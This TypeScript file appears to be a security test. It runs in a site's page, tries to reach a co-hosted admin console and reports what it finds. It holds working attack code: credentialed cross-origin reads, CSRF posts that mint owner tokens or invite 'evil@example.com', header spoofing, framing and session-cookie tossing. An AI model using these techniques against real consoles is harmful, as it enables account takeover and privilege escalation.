/** What a script in a page of the site can try against the console: run in the page, it gives back all that it could find out. */

export interface Tried {
  readonly what: string;
  /** What the script has of it: a text, a refusal in words, or what it could see from outside. */
  readonly got: string;
}

export interface Target {
  readonly consoleUrl: string;
  /** At the site: sends whoever comes on to the `to` of its address, POSTs included. */
  readonly bounce: string;
}

/** Stands alone, since a browser gets its text. */
export const tryEverything = async ({ consoleUrl, bounce }: Target): Promise<readonly Tried[]> => {
  const tried: Tried[] = [];
  const api = `${consoleUrl}/-/console/api/v1`;
  const soon = <Answer>(given: Promise<Answer>): Promise<Answer | string> =>
    Promise.race([given, new Promise<string>((resolve) => setTimeout(resolve, 3_000, 'nothing came'))]);
  const note = async (what: string, run: () => unknown): Promise<void> => {
    const got = await soon(Promise.resolve().then(run)).catch((error: unknown) => String(error));
    tried.push({ what, got: typeof got === 'string' ? got : String(JSON.stringify(got)) });
  };
  const textOf = async (response: Response): Promise<string> =>
    `${response.type} ${response.status} ${await response.text()}`;

  // Reading, and changing, by fetch.
  const ways: readonly RequestInit[] = [
    { mode: 'cors', credentials: 'include' },
    { mode: 'no-cors', credentials: 'include' },
    { mode: 'same-origin', credentials: 'include' },
    { mode: 'cors', credentials: 'include', referrerPolicy: 'no-referrer' },
  ];
  const looked = ['/overview', '/operators', '/tokens', '/readers', '/readers.csv', '/audit', '/policy'];
  for (const way of ways)
    for (const path of [...looked, '/../', '/../../team', '/../../see/page?address=/'])
      await note(`fetch ${way.mode} ${path}`, async () => textOf(await fetch(`${api}${path}`, way)));
  const token = JSON.stringify({ name: `stolen ${Math.floor(performance.now())}`, role: 'owner', days: 1 });
  const form = new URLSearchParams({ email: 'evil@example.com', role: 'owner' });
  for (const way of ways) {
    for (const type of ['application/json', 'text/plain', 'application/x-www-form-urlencoded'])
      await note(`make a token by ${way.mode} as ${type}`, async () =>
        textOf(
          await fetch(`${api}/tokens`, {
            ...way,
            method: 'POST',
            headers: { 'Content-Type': type },
            body: token,
          }),
        ),
      );
    for (const path of ['/team/invite', '/sign-out/everywhere', '/sign-in', '/sign-out'])
      await note(`post ${path} by ${way.mode}`, async () =>
        textOf(await fetch(`${consoleUrl}/-/console${path}`, { ...way, method: 'POST', body: form })),
      );
    for (const method of ['PUT', 'PATCH', 'DELETE'])
      await note(`${method} the draft by ${way.mode}`, async () =>
        textOf(await fetch(`${api}/policy/draft`, { ...way, method, body: '{"revision":0}' })),
      );
  }
  await note('by XMLHttpRequest', () => {
    const asked = new XMLHttpRequest();
    asked.open('GET', `${api}/operators`, false);
    asked.withCredentials = true;
    asked.send();
    return asked.responseText;
  });
  await note('by a beacon', () =>
    String(navigator.sendBeacon(`${consoleUrl}/-/console/sign-out/everywhere`, form)),
  );
  await note(
    'by a WebSocket',
    () =>
      new Promise((resolve) => {
        const socket = new WebSocket(`${consoleUrl.replace('http', 'ws')}/-/console/api/v1/overview`);
        socket.onopen = () => resolve('open');
        socket.onerror = () => resolve('refused');
      }),
  );
  await note(
    'by an EventSource',
    () =>
      new Promise((resolve) => {
        const source = new EventSource(`${api}/overview`, { withCredentials: true });
        source.onopen = () => resolve('open');
        source.onerror = () => resolve('refused');
      }),
  );
  const far = (path: string): string => `${bounce}?to=${encodeURIComponent(`${consoleUrl}${path}`)}`;
  for (const way of ways) {
    await note(`sent on, by ${way.mode}`, async () =>
      textOf(await fetch(far('/-/console/api/v1/operators'), way)),
    );
    await note(`sent on with a form, by ${way.mode}`, async () =>
      textOf(
        await fetch(far('/-/console/sign-out/everywhere'), {
          ...way,
          method: 'POST',
          body: form,
          headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
        }),
      ),
    );
  }

  // The same at the site's own address, in the name of the console's.
  const { host, hostname } = new URL(consoleUrl);
  const names: readonly Record<string, string>[] = [
    {},
    { 'X-Forwarded-Host': host },
    { 'X-Forwarded-Host': hostname, 'X-Forwarded-Proto': 'https' },
    { Forwarded: `host=${host}` },
    { 'X-Original-URL': `${consoleUrl}/-/console/api/v1/operators` },
    { 'X-Host': host, 'X-HTTP-Host-Override': host },
  ];
  for (const headers of names)
    for (const path of ['/-/console', '/-/console/api/v1/operators', '/-/console/sign-in'])
      await note(`at the site, ${JSON.stringify(headers)} ${path}`, async () =>
        textOf(await fetch(path, { headers, credentials: 'include' })),
      );

  // Taken in as parts of a page.
  const element = (name: string, attributes: Readonly<Record<string, string>>): Promise<string> =>
    new Promise((resolve) => {
      const made = document.createElement(name);
      for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
      made.onload = () => {
        const { contentDocument, contentWindow } = made as HTMLIFrameElement;
        const { sheet } = made as unknown as HTMLLinkElement;
        let seen = 'loaded';
        try {
          seen += ` ${contentDocument?.documentElement.outerHTML ?? ''}`;
          seen += ` ${contentWindow ? `frames ${contentWindow.length}` : ''}`;
          seen += ` ${sheet ? JSON.stringify([...sheet.cssRules].map(({ cssText }) => cssText)) : ''}`;
        } catch (error) {
          seen += ` ${String(error)}`;
        }
        resolve(seen);
      };
      made.onerror = (event) => resolve(`failed ${typeof event === 'string' ? event : ''}`);
      document.body.append(made);
    });
  const globals = new Set(Object.keys(globalThis));
  for (const path of ['/api/v1/operators', '/api/v1/readers.csv', '', '/team', '/assets/charts.js']) {
    const src = `${consoleUrl}/-/console${path}`;
    for (const [name, attributes] of [
      ['img', { src }],
      ['script', { src }],
      ['script', { src, type: 'module' }],
      ['link', { href: src, rel: 'stylesheet' }],
      ['iframe', { src }],
      ['iframe', { src, sandbox: 'allow-scripts allow-same-origin' }],
      ['object', { data: src }],
      ['embed', { src }],
    ] as const)
      await note(`${name} of ${path}`, () => element(name, attributes));
  }
  await note('what scripts of it left behind', () =>
    Object.keys(globalThis)
      .filter((name) => !globals.has(name))
      .join(' '),
  );

  // Forms, into every kind of window.
  for (const target of ['hidden', '_blank', '_self-frame'])
    for (const [path, type] of [
      ['/-/console/sign-out/everywhere', 'application/x-www-form-urlencoded'],
      ['/-/console/team/invite', 'application/x-www-form-urlencoded'],
      ['/-/console/api/v1/tokens', 'text/plain'],
    ] as const)
      await note(`a form to ${path}, into ${target}`, async () => {
        const frame = document.createElement('iframe');
        frame.name = target;
        document.body.append(frame);
        const made = document.createElement('form');
        Object.assign(made, { method: 'post', action: `${consoleUrl}${path}`, enctype: type, target });
        made.innerHTML = '<input name="email" value="evil@example.com"><input name="role" value="owner">';
        document.body.append(made);
        made.submit();
        await new Promise((resolve) => setTimeout(resolve, 300));
        return `frames ${frame.contentWindow?.length ?? 0}`;
      });

  // Windows.
  for (const path of ['', '/team', '/api/v1/operators', '/see?address=/'])
    await note(`a window of ${path}`, async () => {
      const opened = window.open(`${consoleUrl}/-/console${path}`);
      // Once the console's page is there, it has let go of whoever opened it, or is there to be read.
      for (let waited = 0; waited < 50 && !opened?.closed; waited += 1) {
        await new Promise((resolve) => setTimeout(resolve, 50));
        try {
          if (opened?.document.body?.textContent) break;
        } catch {
          // Not to be read, and not yet let go.
        }
      }
      const seen: string[] = [];
      for (const look of [
        () => `closed ${opened?.closed}`,
        () => opened?.document.documentElement.outerHTML,
        () => opened?.location.href,
        () => `frames ${opened?.length}`,
        () => opened?.postMessage({ ask: 'operators' }, '*'),
        () => (opened as { fetch?: unknown } | null)?.fetch,
        () => (opened as unknown as { eval?(code: string): unknown } | null)?.eval?.('document.title'),
      ])
        try {
          seen.push(String(look()));
        } catch (error) {
          seen.push(String(error));
        }
      opened?.close();
      return seen.join('; ');
    });

  // Cookies.
  await note('all cookies', () => document.cookie);
  for (const name of ['gf_operator', '__Host-gf_operator', 'gf_operator_sign_in'])
    for (const path of ['/', '/-/', '/-/console', '/-/console/api/v1', '/-/console/team'])
      for (const more of ['; max-age=0', '', '; domain=127.0.0.1', '; domain=news.example']) {
        // biome-ignore lint/suspicious/noDocumentCookie: it is what such a script writes
        document.cookie = `${name}=${'E'.repeat(43)}; path=${path}${more}`;
      }
  await note('the cookies after all that', () => document.cookie);
  return tried;
};
